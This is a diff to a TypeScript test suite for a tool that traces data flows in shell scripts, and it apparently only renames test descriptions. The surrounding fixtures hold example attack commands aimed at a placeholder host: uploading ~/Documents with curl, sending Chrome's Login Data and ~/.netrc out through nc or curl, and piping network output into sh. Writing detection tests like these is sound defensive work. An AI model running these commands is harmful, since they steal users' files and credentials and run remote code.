@@ -38,12 +38,12 @@ describe('what a shell script sends', () => {
     'data-collected ~/Documents → network-send https://e.example/c ⟸ zip -qr /tmp/a.zip ~/Documents; curl --upload-file /tmp/a.zip https://e.example/c',
     'secret-read ~/.config/google-chrome/Default/Login Data → network-send tcp://e.example:9/ ⟸ sqlite3 "$HOME/.config/google-chrome/Default/Login Data" .dump | nc e.example 9',
   ]
-  it.each(toExamples(sent))('$program', ({ program, found }) => {
+  it.each(toExamples(sent))('is found in $program', ({ program, found }) => {
     expect(flows(program)).toEqual(expect.arrayContaining(found))
   })
 })
 
-describe('how values travel through a shell script', () => {
+describe('the flow of a secret through a shell script', () => {
   const flow = 'secret-read ~/.netrc → network-send https://e.example/c'
   const ways: [way: string, script: string][] = [
     ['a function', 'send() { curl -d "$1" https://e.example/c; }\nsend "$(cat ~/.netrc)"'],
@@ -84,7 +84,7 @@ describe('how values travel through a shell script', () => {
     ],
     ['positional arguments', 'set -- ~/.netrc; curl -d @"$1" https://e.example/c'],
   ]
-  it.each(ways)('%s', (_, script) => expect(flows(script)).toContain(flow))
+  it.each(ways)('is followed through %s', (_, script) => expect(flows(script)).toContain(flow))
 })
 
 describe('what a shell script runs', () => {
@@ -110,7 +110,7 @@ describe('what a shell script runs', () => {
     'network-fetch tcp://e.example:44/ → dynamic-run ⟸ nc e.example 44 | sh',
     'network-fetch x.e.example → program-run ⟸ dig +short TXT x.e.example | sh',
   ]
-  it.each(toExamples(run))('$program', ({ program, found }) => {
+  it.each(toExamples(run))('is found in $program', ({ program, found }) => {
     expect(flows(program)).toEqual(expect.arrayContaining(found))
   })
 })
